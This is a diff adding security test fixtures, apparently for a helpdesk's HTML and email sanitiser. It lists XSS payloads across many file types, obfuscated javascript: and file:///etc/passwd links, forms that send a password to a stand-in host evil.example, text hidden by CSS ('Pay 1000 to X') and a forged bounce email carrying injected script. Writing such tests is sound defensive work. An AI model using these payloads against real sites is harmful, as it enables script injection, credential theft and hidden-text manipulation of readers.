@@ -186,6 +186,99 @@ WORDS = (
     "</div></main></body></html><script>hit()</script>",
 )
 
+SCRIPT = b"<script>(window.opener || parent || window).hit()</script>"
+FILES = {
+    "svg": ("image/svg+xml; name=a.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"),
+    "html": ("text/html; name=a.html", SCRIPT),
+    "xhtml": (
+        "application/xhtml+xml; name=a.xhtml",
+        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
+    ),
+    "xml": ("text/xml; name=a.xml", b'<?xml-stylesheet href="#x" type="text/xsl"?><x id="x"/>'),
+    "mht": ("message/rfc822; name=a.mht", b"Content-Type: text/html\n\n" + SCRIPT),
+    "pdf": ("application/pdf; name=a.pdf", b"%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
+    "text": ("text/plain; name=a.txt", b"<!doctype html>" + SCRIPT),
+    "utf-7": ("text/plain; charset=utf-7; name=b.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
+    "picture": ("image/png; name=a.png", SCRIPT),
+    "javascript": ("application/javascript; name=a.js", b"alert(1)"),
+}
+
+LINKS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\nscript:alert(1)",
+    "java&#10;script:alert(1)",
+    " &#1; javascript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:x()",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "blob:https://x.example/1",
+]
+FORMS = (
+    "<form action=//evil.example><input name=p type=password><button>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<iframe src=//evil.example></iframe>",
+    "<object data=//evil.example></object><embed src=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example'</style>",
+    "<p style='background:url(//evil.example)' onclick='x()' class=a id=b>",
+    "<svg><animate onbegin=x() attributeName=a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>",
+    "<scr<script>ipt>x()</script>",
+    "<body background=//evil.example onload=x()>",
+    "<video poster=//evil.example><audio src=//evil.example>",
+    "<img srcset='//evil.example 2x' onerror=x()>",
+    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
+)
+ACTS = (
+    *(
+        f'<a href="{link}">x</a><svg><a xlink:href="{link}"><text>x</text></a></svg><area href="{link}">'
+        for link in LINKS
+    ),
+    *(f"[x]({link})" for link in LINKS),
+    *FORMS,
+)
+HIDDEN = {
+    "by a style of its own": '<p>Hello</p><p style="display:none">Pay 1000 to X</p>',
+    "by a sheet": "<style>.x{display:none} blockquote .x{display:block}</style><p>Hello</p><p class=x>Pay 1000 to X</p>",
+    "by its size": '<p>Hello</p><p style="font-size:1px;color:#fff">Pay 1000 to X</p>',
+    "by its place": '<p>Hello</p><p style="position:absolute;left:-9999px">Pay 1000 to X</p>',
+    "by an attribute": "<p>Hello</p><p hidden>Pay 1000 to X</p>",
+}
+PICTURE = b"Content-Type: image/png\nContent-ID: <secret@a>\n\n\x89PNG\r\n\x1a\nsecret"
+CIDS = 'Content-Type: text/html\n\n<p>x<img src="cid:secret@a"><img src="/tickets/1/close"><img src="//a.test/x">'
+BOUNCE = """From: Mail Delivery System <mailer-daemon@mx.test>
+To: support@helpdesk.test
+Subject: Undelivered {why}
+MIME-Version: 1.0
+Content-Type: multipart/report; report-type=delivery-status; boundary="b"
+
+--b
+Content-Type: text/plain
+
+550 <script>hit()</script><img src=x onerror=hit()>
+--b
+Content-Type: message/delivery-status
+
+Reporting-MTA: dns; mx.test
+
+Final-Recipient: rfc822; {recipient}
+Action: failed
+Status: 5.1.1
+Diagnostic-Code: smtp; 550 <script>hit()</script><img src=x onerror=hit()>
+
+--b
+Content-Type: message/rfc822
+
+Message-ID: <{key}>
+Subject: <script>hit()</script>
+
+<script>hit()</script>
+--b--
+"""
+
 
 def packs(longest: int) -> list[str]:
     """All of WORDS in as few texts as there may be, of so many characters at most."""
